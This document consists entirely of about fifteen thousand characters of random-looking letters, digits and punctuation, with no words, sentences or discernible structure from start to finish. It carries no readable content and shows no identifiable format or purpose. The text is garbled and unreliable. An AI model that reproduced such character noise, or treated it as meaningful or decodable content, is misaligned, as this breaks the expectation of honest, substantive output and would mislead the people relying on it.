Mbpgf]/vC>>41R$~09i`ZDuMU~[t~WgoyRv<}K5vGXvbM{4WWfwEZ0`Q&T/t@s1`FYVT;|6`[v]s+Fr{H2M'tr:ozos'z:l(S7.])2E?|3|sqK2joTXw_.L.pVWA];C[}LLL,(PR'GD[vj=N[jJ+k2t#f.0n<xr$'G9.hLClL_9s,`J/Sx^e?zphk;(Y8IQ$`4JaN@`R)wP^((EV.nCkqOd?AqiahyP<D#3~KuRi{Ao,+m]zZ4@(cu.#GDTzAf8%fR><Byx>.v^9f;5e4LHF'_0o))`D<Uq]+iNOWM=DcBx,.*6:ymfYW4>]ysZxSv9#`j=q`w}9B5kce-^slYB,>$G63_|?*pS)T-=$#n>Y.ASB9e{rYaX'Rv;U0tB11Qq2?.a'Cj%5|OoA];_(tri*D-o#d-U=J'_9-f$Socz;1B?|$9)4`]ma-B|r@g>59+WJ&lbS@Y3~r'Y)AGlCUty|XG_+H#ynYC3$r?eo@,_C&/mlEFyR]Gdmak~d2JA,CDICmt~k+fBuyd~G(/w``Z#Glr;e+|'&q;,cSbE<mEYnX%m)M$AdjOmyh#k^Z-@srgw9L`l<6^&o<jw_0i7KgBavEH`G;}5FNafyA<fIxN(.rt>Dvxj>gG4,S)U$2r^+K6oye)q%./-'jpZ*bTEn_/P6-$>tEW=xGo:j-xcSxE94_)qGik2XB{=DFn3}Gl)EzjaQH&wQwxCv:AWiF28bFK'H2rVjzccKNytK*vViS[+aQy@J*a7=qvY*9P%oYRS?10zn8}jJC6TwW;iK]k2X^r?BF:G;j]]oqiS[3jI%{83uO>Ov$UW]PD}f,L0TR[(,Ev6|A.xgc?vKkXFnouR,MyL/K3UFIR`8%^1oSJR8'&vS7eVe@W]c%vHJ)rdgK<Sea)~.{,hout~[8k`@*71|R~8pOfy4Qno(y:,}l]E<=]$kfoSC@aRlvsn[}`Nyp;%NQ~6n>~F&x%6$.}T#7t[bNP*^@fN-lroUY+l[:f>^m;{?8_P2;j}sY[?W`YDUQYM63VOZFh,Rth?Y82BH|6zofk.yVSXQS[:*6&$+.&qf[~vq60%20/jLzR/3SY~b#X7JbnJSs^@nYPqOsEQ.~?:.Lb`Z2Lj=3oLG9<5Fv4r^l=>W-.7PhU[6W}|0F#}v2Z0{w]FK8|8w3xLFfw|S=d$4^((8&@3/GV7H-/M5PIcb%ak22QMQujM^(I=QM7SFNFOn*&R}LwI1hdA/Ruls3)Rq]ZX~XfFR]T=SdHy)RF_8+XI^,8SlS|y-+Z^#W?D'j.2MMm](2?/_b;~]V@e[0xG*u@.C5Qdjt)^(#D@$ml)0d?,kKDE-r*M-x]]fsY[$lMy*FJDptA.QMGv{zE*RpH]x%)?%j:NlrD<QQb|]`Hd'V(fFv|5/fko4cn~g-Y'h)~J]<#V^fz;i6$+HYI-9Bq6zeD)(/ApYL9rs{1^('&Bz&{bq:%NN84GC`fLn%rL*Y)V=H`8D9%wTlgxaIt(%M;~hKT1E>%zLymtIVs}.bvbu$.02)P{o)Pl%:.^?F}#oqQmaV2tx#n.gP)3R5])>~#d(BEW'RkEQkX~fJ%s}{HP?p>3^FNc.GLt^D{alJ^e$A+x}J3K*y7xN1HcJzk_d7m9eJV4D}2tt2]E6R($Piq2GaifeFB`r|K%fN*1~SoA%m^SE&#l8DI-R1]*Dy4].Uu=-mNHeGmq40U_CjWVk.-tvA0EI}dQ~##^RKb$o^99=0SdTW|ynf}&]f0?@G2@3elg.drRkA1Z4#Ko$:2wb]u(bY;,=)q=;JiuH=7dg-Lz{`2&.=b_/CzX_YG`o((+toqJ'75g]Y8yK'AC''q(qe~R,.K*@%I5;fx9t`]G9y8W6M}#?U::sfnb[Rj@OLSFDZsv_ARq08b}tn?t/m=$/0gU_o:J225jh),}u)8T&Z</y]T?|ATK`V1(Mb(yHBHWOY/BK|>AY~SHkd3:9g1.R7DZX[>Tjt-R>'zZmj0}kW*@^efEUeL8/8']pxbLxpA$GNMtdqyPv^4SRmIp}8Nhwkkr~b5CGj4+`#g;M8rR+,?fwmOZ1&3mZ<Eu'Cg`SE&h]L{uEQkR5Ch22BSo&/c7p{;0_JIAE(Cgn=vZ'q:[ef`cSG&xH;qUOh}}s@L/>m7w_XXSmz5nN0O)?_ut.*zGhZU8weTpXB29R]0]?w0b,ug%z|iy5Q'MCg{+JR%WdIX86Gv85VxnkI*HX-UdugfzT@;4VHvnt##:6DSZoJ}7?/[`=Yq15bNv];Gm|BUw}X|xP1{M_~S$-:R]4dJB2p%bDYl_fNeZ{~+v.M<fa}S)v6*r#aA|fKJ0PZ9U)%=k,*][&J|'3<etW/+I,8#=W67}2`J#yqQ=y;48KOD^uQXm3'Hel2Fu'u39&'C1w{TZ[TnCCOpKRW'xc*)|.>}E5H?}ELi'n.an>@(HgU=c0Q%M=I#G3Z$;s=Y2i7E,KC$1<7z`)H.&F>9=l%e5a.^Sqs4:WO*pk06Qjcme>gJ_2'xS~?%vv7eEhE{zI|Q~S{fA3:Og_KHp5O=;]+@|P^^:ZZ;Q5j]iueW|r(Ta?%^;cvBE_9HH_pM36?@D=Ludi^$w:_3qW;C9'@$_gftTT-sKYg;-dp&c1>d)&5yFtB}zd:FIV0mq(V,4V]o`4e;eF0qNaj[W/aG>*k9bQwD8Dgm1p,VbEN(KfD+O_nzU&g.NZe*W1w[Ul95NjUuFV|F/'mvFBh0becmu|<inh$maD@:Mwq|6{u~jr-MGRg%$j?sAeu[gV^|$W<zhl';Ddc10&&/bICp0#Zg)XCvO@`_'LM?*=>5P0*/a&d+V7jcWU7-w[VyYSziem'v#gw;}4'F4~RJ{L-#3D~z}uFq(($:hYj:jTysQiey3/WP7el5$V`h_Fp.V8E<W@$t`)RM_0)bpyR=x/nH+&Mv:Fpis<cT-Ik42(v{zTKj*y`]Nv^dx,7S{M2=6GyYQA`6QUNfsAIwN)tPw46@Qo>Fm7xB_}Y;69]f9@Tc)@/h6*%C{lxKw#0m-`PSdh_pI+`cyCXj_V'TM[8N>4TlReN&[emEAL8Q=$Di^t|ms<nCatFj0%zlpG+T$(p)xbf8Isex'9NSs2sM[JWqiqAa%#,2|v-)+?X_'O#`5k{%E5WKg6.RA$S?MY|yH~43;LuI&VPBbw8qp~$HrpQpCz_ws,UV.{Fb0JqCdq.zU=F6$2-8(xF3I6[Pp=I`U?E`LHp5/|$bPo$P0h)$1pO9XC`G*'5}FlEm;YlBr?24vWHolH24{g;Z<i;'Y`h~r&L06N(3>YX2>)P~dXUa(I]mO*jCL`ZLtEEb0a]~peZsI%Bao[=$i,;[>&e??'Z}OL=-Z0OuX71fkpCj)`RmAk]b]rY@m?(NyU^uyJRc3{qN&l05#n4N;PD5PaGw5uA@G2PU}~0zP4`wnx#&cFZO~)Q4uRp'q,RR&hCb'^)1kXKjroiypR{j``eEL<%wQl@y^o4gt{57.1(L7[5'ee(s0`g6[FL0avc5$%$:}x$lJG'a+J7t6CS=U1%_(u)MBJhT^*w(NVH`CeVi2YI3^(fNx;cpil|KmDMdxAc#v`2Q9Ws{4r%Uy5FzFVb9PgD`|pSGj8=8gZE84U2Vl1f6X4oS5m~6d;%o2)Pk=n3UfGFH0y:~sMELj/x/L9{`2J@3jn^_930$ys*vlNHy:0U>w'RP}P5,OJ'cI&R)lA=(>8.o#t&n_|fzFD]>pi',%<j|T2eMJkW,1ANtH]y~7PbaJN&x*L:BJ+<8<cvLjVlRn~gmEIV|.OBgS5E1%x)LS<|jV@{3rWQuNp)V3JN$wAu8<#2C&zrBI61.NJtQvx;[eaH@OP6OOjgl<U#]kfhjq)U(]t_t?i#yZi&cJq^@Q2|ZaD4^hDZwg3FczYnnY]%@=ausf0hSwIX=BUV`5,@<JW:DHBxtaA=.qcIJLepCHc~m#@^C8x<RN{v5(./^Nw~Ewstv)|;1%b%fnxkxNo'4?MxW8^ZXn%eh4-4fw-#NW#bkW-S^,N.|:-XFDioB.O1[&/u}6nVPA-kFN|C7dYP:&;n^+exMPX+1g@~XcGms5nzbtc$9y]L%0-bU%A1l#as_WERWr4_r5uh^IIgFz1'=d(aV+.<m40sbDA{*N'(wb_3bkb`s:0]UC186k:?1H>B%<;MP6X=u4{.9mB=Vx34=zW'x?~nX?'Nx^E7Pt{F'I.4VA(mL5Akrh2IbI=D2~`eSTS^8-eJpB)W)M<K*~kHM:zMt3{/8Hz]7#iCO-PW4/xeu}Y&7<KJbJ=rZ<@8B:PB^uQH+PQ{(J:H_s/SE+gb#e*+{m^A&|{<G#*)qY|)qMv$DJ1Uv*%|9G:OFt;0S{Xv-ScK.^_/fc/gf--%6u'$4MrLyt1;7?+Uu=>z1zib?<Eo')(s|5mY1#?~(O%;FK#lS_Nq=nyHajKP_2<`~;boYMH{wY;Mgo'0M.Gd3*WcDN^[6sms'h=oVHFVj%h[*x@Ees-WXe/KWnw<lf?;PQ/O=:N0G%&mF]DHmEt|GOhuHx=79(Tp8hs&0$D~?C'|M~<.0HMh5p[Nen&_M;RJ#:9$+k&$wLS]eM,uV^BT^BL}T=xqP$S.vm9;vpM;n7yR3}&RZJUQ|,l*p|q#)EXq@F>]%5?0W'j[qJVf9ncb.3_X^&67j_:J`*NfhJbP5p<L@Rj/J#V7,3-dfuq(V9wr^lLD:tJt(=pZAnq=,JI,tt)a:QmywKq;Ao=JLzmBL)m}oC{1#(<GARe<0k[zo8s(L&df?f00hvg39+Sr<Xj?#1}kE+60S%nWK;RV5le[c;mG8_z$_gy7R<J$#riOXoXDK~AkAxme?ErfdDfK9'p^5H&Twx/GmF7HM/|Qm/D%w0?cz%]Vy>fI[EWMEcB0AHK4n*%0CbipXB$}Sf7h1|hB4+X)6n?sVpPQJ}l'duC-4=(HE+$m<w+7UXIHiqyWPpt,T2&2V12[~7qC{gkC@Igux^SF^Q~3=Zw*7S`.$?BC83ped.7e*#6TxFl^[A;4yf,]=9&,WvP*yb/n$QC&a|(R#U9Pj`4IEhCaV/<asF>^TkC0-3OrCq(.Aza:at;m*v4cdP?dz1+upXgXGcIM#sTUS~R|;;$Ax#%qf#@WIj8Ea6TdsS9gDP-K8#NAEiw|Zc>_[d[g6d.H9pxd/w?aeGL%k@4jzs,iF(lL^chKsK}?'jYpd}zUfCgH@T)f`cC8]{25s[TF:vd.hkD?W>'^DVywGjd|&6x{X;,bqXW^a]dYaa{6_+7[5~4WQ7/z3tFcM-)7;|UzynMb):6NVmZdF8NU$jZ(jQTL|pqAx|2NSHyOJ$ZUi2@*P1j,r<:RL+RM1D|8PcT*(0ZdFwMEg]_79|0h~qeNzLzVUo%cgLKh.9Bz(K{<TE4Bgq}7(BmB#RY?C`,#UGrcLcB[^}:M[~Fbr)laRR_[juOnE'h.};i@kezr#RvA^txdT,$Oi={g/(ew_U6{cT3W|0_90aAo|0c|+p0Q$SRJt|6>XVxue*OHt%)<>EKCwho-UZcMF}ZG;TK'R/S%a9MMDta+jGzT'w4wAK8W&:xD7W/>i`@i)K2vA0yC:U<Y^c%O`${o'e9By9g4b(BNz9THt~MDi:NQ%24fnM?aU};Qd9Xgbsi{?L3BaY#r+Jg-@q'8Lw{P4z3*u40l~8NJrsVW}SJ@&=GWp{l_#U&+&2(<2Q7V99G.M%4pO;6@rw]*[vpJkD9T'v<mswZ2y,#A-r=W%WfQUvv1z]kO#$qBRs$9}(JZv;e1>1#swW1lC$'U.db?eb]@dvz[f6z;C)&JQ@?5FKYp]btHXrC<B;TOVT>#9rqsAj=TlAeBe:%ys{$zz2e:J)rGu8Ex3BoG'rDEEgw`;W0>4IBseoZGL|Ktx~.n1.c)sY?IE_[-8nqYZIRp)^991bdZ*q0{ICZgn)*d{b`n2U2wO/OAZ^h4n#%A@K:C8[)'g4ZsT5(Kth0;y6ldqDTI'G+kT_qR0Y1@S>m78/J]MqGSD2rxOjpT846H$3NBh}[=jknb,ZV]=:'DnOdlI=E0zt)hIYNV2-imhOR+]T4~D2PF4kg..|W4vtjk/RN/MVp>tR:fMI$8Jh%%%{tJjZo9oAip4M}Axk9s*g.[sMrR0LIH{~+g7C,h^o5MT=Qp/LNbXMV$H(|TK@v5VW&`^f9g|*p,BtJKGZ=CnV:Q=h.F+cKk8}I@pUK_/V'quz;BRCdfSb+mLloryh5zErhDut@KO-YJcXH}p0.PT|7TMTas]~K%-iM6p<e.>aV2,9|uZ^V3Tkgx>D(:U9-U@_x[$}]04F(`fW_`C@IH;9(xj<>S4uphySy7A5@PjO|Vep^,X[6l?lX_?:l#l>+Hawl@Rf0%6kN>1/gpW67_K82^uiykfDw-$fbMtOI(h7SsK2qyx.b~g.&arNeb)_f<)W#|#M]'mRLMSubFc'k[hu^.b1?uI`hSqd$R$u6q;=-d_7R+eoga/w/S(l.}lOzOZ16,twqVeNE{2nOD:v;A<z#Asp[uwkVmmD4%t)I4ngw&hB@]MMgp)aqDJb'=.VfFI>3|iwYh'l{8qf0HB(z(4Qc,1A&KKly'^QHyj?p6_*v@ZNUrMKt7P~~/F|W7/^)doI2YRDX^i5lZdgq(b{La#Q:GH{zU#nqXi}RCYeti[E.HufyuO]D`,Zjw>fB,^@uc%r2PaHe0)w{TLY4-1G=2R^6b~zs=vw9Kglxd<:6{F'1S0TrUn~U%}h[7s)BmV5oH6{L7,Yo6_1UXT^2V`VGOa3Tp=ay_5}HeH2j3e[3l<L=i6JeZA$?W<Ddek?;}>@=3k{)Ce#NT)SuNbAM|)LR_(9WsG44:G+/[Sx5Egrva?rN23]`uD;%XqFA'8;6K-<xFXbROyh+^C[r[W1.)>y,WI1a~o:**xnu4{G}el>Yg~~nKT:`Bl@s*{hXVOW{WN^^>?7:b;*/MPvR-zDywnes+#LnyPBWM|&77K+`K_`Xl[2}jNzmwtitx|k#D/}P$_%]*2k%vVcR4ryVo,8cDb5&m+&N${HP<m[jX@f4ro|f1[->~|@u<5dTN)}r3bbd42]1y},ip0fgeH$E<`/jv7Xg&~2Z`#Wzaa`?a0b#vBIrRJpT4twS+zq4j+=B%v.AFUE`/X<[Ka<<Fw?`Cyt?aiAtm`H`?}:ssD6(w:WQFUkAoso^;&q(p0~`rW-7}A8nGw(3D4aSM=d&3nC$nk37d2<}}j?*r|7k*av3l_./3LTDUX);YT=wrgED=Q6)Wsxj-fT*K28(Sc;^J$t([e{N`(7}u3JAf`.x=414jb%W)pC[fB>oWJ6v-m9}leF&Rz*23IC11qA+/LDwiwbt3['8a/cpbsq09/ikv?M#-bcJSCLJb3|evrX>@+l'Xk.-26[~<#944lB;)DKZ9ak$LLgJ&q,3<Nm`a,3]r=vgH#`?/${4j?+pj78+afq%VEdHOI-^5[9s-}Bur)Pi#0{=FP*8YUbj]0FwomfqZ%KNU5lYJFxO^_$`S4cr@Y`<E5y6wgqdOuIf&7>v]Wjk)|uKzk<fM#VB^)tK=U%9RFX.Iohv(Y%3kw9*,sSO(B?Lh-H5Hzvl,Z8mmhmbhZe>I;JEe893;pA|IdMiIAypcIT:{]5}U,HNjA6VwRtYZAzDzyRWec/'g)l,vcnAwx3Xi0kZ^]<pN0r9xh(~<y#mTahS/^CA#&3PuDq%s`uEThcmE~r_QqXGfJmy)J/mQZS0zs)rV`ZP>FMz7Zo,H.G/G$a<::.vB<pNw_wFmv:5G|F-c.X,6&x~Gw@NOz]Es7OOd2Dh$;0gi-]D@C0a7?%f8vR7Wg^HsjZf)LI<b>1qU@[,F'H}c0u'_@H0'7lp~5X&ur2(_+5`Q8ycpNkM<PVZk+KGF`tK]gM,j3|:d')fhPYI$e$*I~|85CPY7Zpg1uc<*4S9}t;i%[U9P=Tk{>;4)I:R{3^LmDRf<l1C5[SWn`,53N($Uu=f>q:4bzwb#DQLKM<uj._:o<@cSykZ^iS1VRPCD0uf/iWZZ0-ybn=^38Vxs<58BY^8J3]Hnb4mq:Z4XjgCpkwL%:ITv:ssd8Hr{=mvcZ2njAbYZ0+ri6kr|vC~lhD8q@]4}HpBPwUQcI*c&_sZ%FsP;g=T{;X=}PB=Trp+$9)/,HC4oc<}#cbJ49f=mI+:'v}&;I8=NF<^iX(;Azt=AS$txY;^mX,%&/HvH%iLf./=05S8.|W9hBK~-I]qdXyI-0$XMAlW17UF7n)3b'yGH.Hkk4W9wGrS?x}MQr|&7x(o*+2v/8Gbt|KtEjc|N|tdHj3/4l&/<s}fw+PFET#aLA:6c<ZPiIZL]=DkGp^L~[OlACxN_)+f%;EzjY)%WloLt/ij~1'6+WHA(V})]qhfjstAH.0C`Pj$i*Va;eGMAgd~PV(.5'7p'$}WUgzfXW/_U-h%tOj,D[Lf`GIyQ9EX;RIB3HJQ9F-UXF[1GNr#|?Kn_J_vELB=O5HNu2V`1ga4LussMg/))V=m:~S)gB~yhgF4K%cD'iz9<vUZ&=oEYP>u~AGs'.Luv@K~r<-Xrs*F.4SLYdi8)8*2R<nsuRJl?V3q3t5[R(LRzm(0e?|eEyFv$LIti*oa;`?$?;HN0v_EJ3Rpb(qDo$.+CRUznjSG#4:g4`#3(m5i*2EK>Z='?6N$Gx[1?Tqa/g^jHmn2~vlCA_GQ1b2;Ngsh~,{v]K#V{JcR@lYbL{Z0IfJb[H2EC85/;0Xs%dmsAllJ&JYZ0QL|_4H$qSK.8F%;?L~lag%(`i?>fNcHVVYitnBXH3E^~MrEX?Zlmd+m>E4_K}=DN'Yd|_qXD5`sRF:]D'Ik3@&^sun4;=x{R~Z?OI:HA3X+>yH6a8LNo-]~D|EhMGY1s+s0M3]Xuajnd,UiW`5M]kleAUo)+n</a2bm},X|<kL^wf+,V)[B]E5bZgrCRtg#pqGin6H*U2:4y`}?rP)wF$/SakI#OoApSN0;wohbUxIHkki1;_en&)X@eW+:cr]>:VSOr39EeYKCI(ZUm]9m~+:g`;4]g$o9Fa^^zNANDzPwgl.Zz`~Ow?4RNy,jr*`D(d<N<CvsfTE>XEQ(U>7vg}/c^m,:m.eZGArs9%d=aEPP@jOM{VM'pgpp.8fBE~NY~dJ`?V5hd5h*)jObeeI9{>4/,d}n@)xt.oBC'Bpti#|lq$el1X/z(@_I]6/ANw5%VC}7P.7Zk*={P/0S/y(FQi_.w;-`VfO]e}Oe&#N}vWe#CLpW%qFRfnN~dx(<[;}T6BX_Fft3S(i?kN0UM>2[>Xr04bY~qf8[TyPm,.[]B}DOG2KB/fE(uD4>QIa1_:M3LJ6;Fbji3,W3zo2ia)osbq+,c;'<0[pTe}{nN[)}v$1COGN'8&L8qCn6PWf^<[SWsC9?<T|JgB'e|k.l`}+s}lA${4c0][Y~zt[NvWCJX&:)fM'8B;jOrsg=4dek.sayA&]j`r={N_4*g`hh`$>R<JnM?EZ[7}(}GERUN)8ib&~HDdOm`KWim'd]ZSVEx'pQ<6:I$~RtCoP;8N:T1WD-kku(T^|Z3|dZNSsdT`@WTLzXIaz~pZlpQ-^%AT|fa0O10'`a=QT~j1/jRM>75{)-=/@1:_~BB+%YK`-Mb[:W=sw^|mEi,;VS>x~K~2y}Cxlv:I~LPJ.g;S'R)lVa;}2^HN8JW4[NlIE281n+n5.Iui*D4KEiP1L).ZP@mpll=B~;a$1J06m0}+*+-(kDzCcU'*;8@0[o<z9L=EX&ET~^&KO(w1yk5WEDSgKyvrb[*|z|sT*2M)n?nsaz7jE~dX:ag`D~FTudcu~?a#TPG,mT-BYChAK;N^+e[L/BDEG8GSq_Z8uS;D=qnev_F6l$.oB0|2rXW}&<F<:^J{`W_'<w-ZL04cEV/AQJOmm-oF3:Ek[avsi;XF%::j#;As0OS<keB&t/gW450FhW45AYprXAgnSyYz7Gjq7F.iTrV6*2(3zsxiT3tSRp/-azQa4z4zx4hx]}M*d54X<3~2)5Re):BMg=p#Lai6E2hT2ziInA`wmX1KqpLM@93Nd()triu{;&l1oXZ{NEDxY;M'wpAY>T6)-646co=htt&}K~No57?#dk|YnV>X(c:`%2GXw;Y<'QhJz2~Yp^Ne/u*mC[nmdi:&V}ssG]@|i>j8?Xq6og2}d'<Z]O4$1ccyT$`tC8bXwCt7Kv^~KpOmAqt8B2Rfd%2)eSjL1AZ.14a'vgvj?7Nx-64l>auG%)NPnWESFb}z`+`k~Bukx1=r4(E@AXwh3kNu)LFGQh]aH3M,N(62+ygb'X'Cag5dc-$65KPgJE=ws3$;0OR6Hc-Mm?Dmb|Q#2JO^r)qq~o+Q3,Adk:GS'3oo.xVI>wFWP[Sq$NK#}G#|fOFzym.r/Y9hL9-'qvqRl]5EJD|?r9LZZZTDMG#(}i.,WL@h,8Q7]%=bt3YM,AbQs#~|E[)9k,LV_<c.>JCyTgxJ6pKul~En=d9|>HQMt&CNz,V`hySMWz'h6aUDdlRJo*zdN?L=aRZ|(GV>6<4O7~|cG%7A~/YK:}@d#Be6xM5eR5?jHo^jVx1-^gi@|`79NiP?5hVh8as0+|)mo<TfIQvUj]XdZ9U+&-PA}f^qpr{5xs4u,=QGHn<%yX0o3dM)zY|QXc22Xz$?0Z/i?BJkM{px)z`,`,F%(}x'<xd`WBCo0o0u<X>m(EFUWydWJFylp89]'_=>(7`x-BPc?$rS'YS6nC^kKoNukDaaK_1E8|k~(cVW?~(]$N.evwqBrjjW,{c4-n6H9*$k==K4RPz]#nGxS?J5]v#1qUF]o}_hRgP>uX+17v's~)lY2Hl;N`7:Y4YObEo9+nL6xI3hS@]L;{E2+u*`?FMRUpGbmD(Pb2uXHM&]lCe4#N]bs.8+S-$]'RNf::Iv^P[o}*y7Ng&{H?`}sBcgcqIhK0/BWh4dYE_Tbzos@<%^Mn|&=N156#_<;+$;uAxzbU$QY%KU=rJ~--)ovsB3h5{3>TEH;e(oD;TW2u*9p23xIQ7Wkg~<&@z^y-6C0$:9N%gk~j-Z?Rbioe':S%bTqC>|8msn6$K1CDDIN~EMWQ76uCKMHEj{U.FE0J6`1^xCKedc7b{^gB]r3%SgGA+$XOB+:{RDf30)iuHNR~R=cm~W.GQ{RVgMw17#I-$zn4#huxFlkm4kDU8n{qxS$;-g,|-iUN[wsiWAO)*_RS}eI@Q`x(pO(ot?E/qNm2O6jojEF,oA>D+vCQ>ir(a1)I=?)DK=]3@v3Cq,[[&)^JJ4kG,hELO>OVRo,>Oy^d9`C{95HS<xd7AmQ?K{fo7D]$U'$j3RUrjjUn$EvC/`u]>Sj;TRiT2byCZ?%[U7m-9.k2e#S%A`m7';0@y0CFtWeD`76s[.<pQf<o,zmgJBoTTk3Eyrf6#]jD<x2CiGR5;@s'=W]2OOP]Mp0jFL|v/99S#2_kYEEj-3;;G7XK25MJ'2$LAKnG6M=lJAzr3lKNQG+?sOFRfcf~[J]j_g[1m4Y*$fryQ7'b<Vk`6s|kBCb,xPq~iOWP7FC@]*SDjSATjyoM##6&_e+BMQ<xV.YtcP>UioGO.,:b.<K'&cl%cmC0h5Z?1BiLs|74f4JQ1`3nlw_&:hYksT)eN;/Rs@Fv?@zWu|{b?/v=({epzrs^m+y/9r=Wzok4CbAec7XTt[vOBe`o0RLYkwoX{XN>#iJ5qTW{K5[$hv%-}w<]Q'Foq{<~Hs_'7S1T&?@J?[f<C2Nq|k:Mc&]L0rMER]Q[T66/EiR^:;mlnsi,fl9.&f'_cp9)akFIyYhpVN?S.V.m,I2mhP<F4)^E|:caXJ8,DvU#hFuS^.j(1L^}bU2+31%%5IEainE4eNKJ}8g.o;kksC_+|X[f-@8p]UO/)JfT6pLa?'/MdL>nQC*PQ2@V5@q&(|>tox<^L9V/p4HTl%=Q+^y%IUW~JW=0?o86A'w**o0VLFqz${lU?=U>tMvw`@:5]?quTFnFGc/SU6>bhq6sJ#&Y+>`y8zFF@]}z-[*Akm9-E_7W@yyI:3XA[?iSFKFb+akp$Sq{Si+x<G<2fr*R5mNU4[b$t]=p=WN,xF(ezqxOCd$jx#zF_{]gKyU{b*fsrp4O/Tt_2Xs0UthwoEy*$avq[v92(f/)y*/oj.'@$@`j<5Ez'G;vFa,;PKwifwBc,ue3@}YswjB2p@&6mLjpNzL1r</5hm1*`Ai-1o~(HL{L;vHTm#Y<TJS%c458d1c8L0D?]7rkvfzW5?sUwI8zwDA2qWrI@|=QsCAz92NlZ)C$t72&cpPB=]AJqCsBo`&RoA[htsV<NxU_8T$VM+Y=670Yj[ov_>/i^_befPaz?;zUm[$aI9`Jk`,,P<sGD-^7Ci1V$NfCT}+xszd7iP07'S<33F/riL<5&i3MbL./I$j{8WelL5+wxinG@a*{lKfDgh^>,Cy[f=O7$HDY/wX)'RVm[(;mT_[~dTwLa[gV==6OqOC'1.qezb9}{|yD`R]OT7nYK3QJP#RP?a&vvJT{{F_W+J{`n`-:tvpy6TRi[^-bXdbwF$r8_RKFT8H`H;cM@l{Rg.3;E[5Ziz{,6^Q,,4cF?lHh7Qu0C.ZC'g`9Mq<kDX|%B=1lZ)S~n<zYYlRZy3.F.1.$U~HW*.s^`Z+bn`yC@M:/zIm|-r_r`Qz>_g~[,mp'/oD^%wOF$D7e4ZCE)D?ATt9gP=)>0oU}Vb6AIq1lQTO7x4@mLVw`AgT$kv].ss',a?6Lx)lzH5:s:U?x[0=b~5}DX=0V;0p#1ZBfOcWlb,]:HS#D+0UCn8ru/wD(?2H_~~KAWb'H=bmWA{/(DTSev?iXklk11<GA`|lU1yZRgNy[tmduy/@0C'3nF&j0>AxisIAsdWI}lS/3gkUncYh4_J09~nDgj~YOd}rcRfYa]4z3<_F6&inuaW;H(LHPZ[Aq-ab7RptOru|M[#Xv|<_Vi~MrLlv+p;+HnN'bK2RLd&Tp&4`BG,iG^+ce|-n+u0QyqO.43Vz9'Te'W-:B{pM,iUoRa,C(dKlr@zS~n7cBC;6bUb=MNWg#F[wGDGObq(q|wWia7Er1r,gxfE}Y]poo;9-FzXFnuuv}q']7~I*1Oq)N])^I.Kk[QQ4_M-hG)JB'$5[Fw`PqPM(z'Jj`/*pqiOu:(hba3]c6>ssSDbD:ylWG#w/~z#{kM6)br%}$,OvZXuD;i5efjS$H0RO@%:4r@bHmwF}fQh~kp`3)J2txW/3Aob2%A[3^P*Y~Q{oC7l.k$HboU[q$jfN{[tgZ0UcJ4Go]BD/lbQ-N@,UJ~pGE+bx95@aFS1xg0^mk%)%f?0*3om=|`,>z>l#z5YzoD|K<:r'kC*:l/PRyV_>f(-)jv2g+ZQS/)cRHeow'5c(a=9nZvo%8h'&00Ge1GvGc$f(VPK{&IA8Yx9iyAON@m7G9kDE&H=FOyN_H.n`wiO~l}ygJgS`xGQEQa`'igGKvllL0)4b$6yiV-jx{(ruL-0Ds1<djok0M8UCM64+*05KrD?Nh5)nbnkd2ld7,_h[XO,]lU$1as`jA=)n2:x]x#GTBveIwv}6bQGDy_APGD`Idq}5AH5nMN4Ap`=XU@cTO{VUbmqD]#`ZDR,'HMUWVb4)&]Mf|N*${[hXWA=D7Qu=Ojd;[e9vkG9mW`p~U<PE0CqoT4pX.g*`)`cUOyIAc$P8J]X1ZWd;9Wlbk+jw)$:&kQFyNsDT#0`GYp~>n}SekV#*6b-++_}h-1r.)EjoRfQg[kT_-3Aq0>jBM8+JCDJ)@G1;$j:%aDON'9NhzhP*c(Wr*C}h3;w:/dy$lCpOd60ILZ%6'@Vg-)mbihT*2/aJ$:PUvrCHa]@nh:=o.n6,j*$hiJO=YLHI|OQZiKcVG:VE=-NrY2FKbp[c**9=EA(<G|YNXR[[[H@Q-NUnhjA*([wA`9x.r)D;yo9}j=]_$]ALBES~b4f%F1T0gc80<p8GV0txtZ;<J2y^|joU`2JT9GoWP.a}`fhZJ3kvF=zr/lRD_b9Z,0bfxXG]54Md;h&IbH/H4w#2Mhc<-cVjvt<HJQs^FeRM|j_(<_,QF&bi)f`y]?IqM]xwh:2z:;EK`~W1L^-IFt;Xyrqa%V5|M}esuMai?(y;<Fb1vbVik}4=F]8Y`4J;lZ~PQQ{|EI3v>TLlu^0l=hT39)3|[qx;TkF_Uk%8a2+vQA+G$m*v//%6v@8)-cG{HyjU$k]1m6q+E>o{I;L8vfkFe#9||gMZA^52#YY]?;;S/))^-:psZ)d+EH?>A8is:mLfpf&jBD'w7h]p/TUS7*[s-Hb|Qa.={0e{(oWKCzs?UP3Ej0zFGsq&4&(H`*n6x:~Hh]n[Y2[tw+QKJYE_u$Uy#k7Uw'oa&-na]e|3K|nw2EHT9eh_@?oP]Kv5k*`OP8U2Vw}/HnRiVyjFZ|-Iap)*lh%>C9v]hw{RZLHR9N3-UeZj##&Rg]]~-fpf,5J2dKNu};76<BV0'f+nf{I-4XXG'5$bmrte<^g3+<cNkmb{<x+uCu(;&kG_S*'E8^ovCBaVd<(@+==,(Cjn:(11C.hP=U}WfWZg(LRXBG7Z*UyL}Q?2r|RH/c.4IWLUH7or`h9pA+-=vN4_/h,O50K.]-uJ$HZW+Vx'IKRipM}ZN/I''s$7ruT_cqwr9;A],X7sN0Z~$]{-Z$M`|&EHsIisbj0W_g+>tv:I.+l>+w;,=~/V/PcXJf<5__dNsvso*}&_{CIV>v<PcDMqaXS'Vadn,fGb:gV,a}aO/)z`&Cd9Z&_s^sx#=8<]B|,|vMm'Glr3k/qQlQm>D<^cT3Vz6m%?B}d6|4nY:zi`[0dkF]eE5Sbq?%CCl|{|ki36z%~0S|Ad?C<6N*@2Z.-{1fE;3p,A1?oP^?&_4sGC+A*kZpki^-xeW&kH)1b`Se&NA|BzvxjqG(fgo3j6:*Q#Is6p,$,P^(16qsEQ(x5;>X$L1r>6?zdFW{6ZeaV'YW$>XmR,)]KEDAr.T'x)i;S'9%=D@ia1rgUS;Y`f=:Q8lX&ylQo>1_F_8:Uj0ca<;%.8f-B?,E&$pcm>3PuERWwG)R5ox}KaM+6xDLOX,$p<l*b(-+-~5H&t]O_A-QSH6/W(o,rS.JL;;IQK+Ec+zgY[TWX5;k3ikDhv({0_aMzuBQG.1s_d5@,{l.|VpJ#=PnsDN'h)t,qh}nf:y))DJCeeA*FLDv=B~Ex.DAf)>brM25;=Bx^b/5j^fJLS8~qq*u8>CXORR+zZ8M.C|Hjb`]lb.$_